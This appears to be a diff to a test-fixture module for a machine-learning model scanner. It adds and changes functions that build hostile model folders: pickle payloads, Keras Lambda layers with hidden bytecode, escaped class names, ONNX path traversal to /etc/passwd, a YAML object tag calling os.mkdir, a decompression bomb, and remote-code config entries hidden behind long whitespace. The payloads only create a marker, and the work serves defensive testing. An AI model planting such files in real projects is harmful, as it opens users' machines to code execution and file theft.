@@ -7,7 +7,6 @@ writes a model's folder around one known trick; `ATTACKS` has them all.
 from __future__ import annotations
 
 import base64
-import bz2
 import gzip
 import io
 import json
@@ -183,10 +182,12 @@ def xz_compressed(folder: Path, marker: Path) -> None:
 
 
 @attack
-def bz2_cut_off(folder: Path, marker: Path) -> None:
+def gzip_cut_off(folder: Path, marker: Path) -> None:
     """What comes out before the damage has run by then."""
-    noise = os.urandom(1_000_000)
-    sklearn_model(folder, "model.bin", bz2.compress(pickle.dumps(Payload(marker)) + noise)[:-1_000])
+    noise = os.urandom(200_000)
+    sklearn_model(
+        folder, "model.bin", gzip.compress(pickle.dumps(Payload(marker)) + noise)[:-1_000]
+    )
 
 
 @attack
@@ -613,6 +614,49 @@ def keras_pickled_objects(folder: Path, marker: Path) -> None:
     (folder / "data" / "custom_objects.cloudpickle").write_bytes(pickle.dumps(Payload(marker)))
 
 
+@attack
+def keras_that_is_skops_as_well(folder: Path, marker: Path) -> None:
+    """A harmless file of skops to who looks for that, and a Lambda layer to Keras."""
+    schema = json.dumps({"protocol": 2, "_skops_version": "0.16.0", **skops_text("harmless")})
+    keras_model(
+        folder, keras_file(keras_function("os", "mkdir"), **{"schema.json": schema.encode()})
+    )
+
+
+@attack
+def keras_as_a_folder(folder: Path, marker: Path) -> None:
+    """Keras opens folders, too; the name of the class is written with an escape."""
+    mlmodel(folder, keras={"data": "data", "save_format": "keras"})
+    function = {"class_name": "__lambda__", "config": {"code": bytecode()}}
+    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}
+    config = json.dumps(
+        {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
+    )
+    in_new(folder, "data/model.keras/config.json").write_text(
+        config.replace("class_", "\\u0063lass_")
+    )
+
+
+@attack
+def keras_of_old_behind_other_bytes(folder: Path, marker: Path) -> None:
+    """HDF5 may begin at any power of two."""
+    import h5py
+
+    with h5py.File(in_new(folder, "data/model.bin"), "w", userblock_size=1 << 16) as file:
+        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {}})
+    mlmodel(folder, keras={"data": "data", "save_format": "h5"})
+
+
+@attack
+def torch_export_that_is_skops_as_well(folder: Path, marker: Path) -> None:
+    schema = json.dumps({"protocol": 2, "_skops_version": "0.16.0", **skops_text("harmless")})
+    graph = {"nodes": [{"target": "torch.hub.os.mkdir", "inputs": [], "outputs": []}]}
+    archive = torch_export(**{"models/model.json": json.dumps(graph)})
+    with zipfile.ZipFile(io.BytesIO(archive)) as old:
+        members: dict[str, bytes | str] = {name: old.read(name) for name in old.namelist()}
+    torch_model(folder, zip_of(members | {"schema.json": schema}), "data/model.pt2")
+
+
 # ONNX, safetensors
 
 
@@ -643,6 +687,15 @@ def onnx_external_data_of_an_attribute(folder: Path, marker: Path) -> None:
     tensor = protobuf(13, protobuf(1, b"location") + protobuf(2, b"/etc/passwd"))
     node = protobuf(4, b"Constant") + protobuf(5, protobuf(1, b"value") + protobuf(5, tensor))
     (folder / "model.onnx").write_bytes(b"\x08\x08" + protobuf(7, protobuf(1, node)))
+
+
+@attack
+def onnx_under_another_name(folder: Path, marker: Path) -> None:
+    """Its parts in another order, so that it does not begin as ONNX does."""
+    mlmodel(folder, onnx={"data": "weights.bin"})
+    (folder / "weights.bin").write_bytes(
+        onnx_reading("../../../etc/passwd")[2:] + b"\x08\x08\x1a\x01\0"
+    )
 
 
 @attack
@@ -704,7 +757,7 @@ def archive_and_pickle_in_one(folder: Path, marker: Path) -> None:
 @attack
 def decompression_bomb(folder: Path, marker: Path) -> None:
     mlmodel(folder, sklearn={"pickled_model": "model.skops"})
-    layer = zlib.compressobj(9, wbits=31)
+    layer = zlib.compressobj(1, wbits=31)
     block = bytes(1 << 24)
     content = b"".join(layer.compress(block) for _ in range(5)) + layer.flush()
     (folder / "more.gz").write_bytes(content)
@@ -759,6 +812,20 @@ def path_out_of_the_folder(folder: Path, marker: Path) -> None:
 def yaml_tag(folder: Path, marker: Path) -> None:
     folder.mkdir(parents=True)
     (folder / "MLmodel").write_text(f"flavors: !!python/object/apply:os.mkdir ['{marker}']\n")
+
+
+@attack
+def remote_code_in_a_long_file(folder: Path, marker: Path) -> None:
+    mlmodel(folder, transformers={"model_binary": "model"})
+    with in_new(folder, "model/config.json").open("w") as file:
+        file.write('{"learner": 1,' + " " * (65 << 20) + '"auto_map": {"AutoModel": "evil.Evil"}}')
+
+
+@attack
+def kernel_from_a_repository(folder: Path, marker: Path) -> None:
+    mlmodel(folder, transformers={"model_binary": "model"})
+    config = {"learner": 1, "_attn_implementation": "evil/kernels"}
+    in_new(folder, "model/config.json").write_text(json.dumps(config))
 
 
 @attack
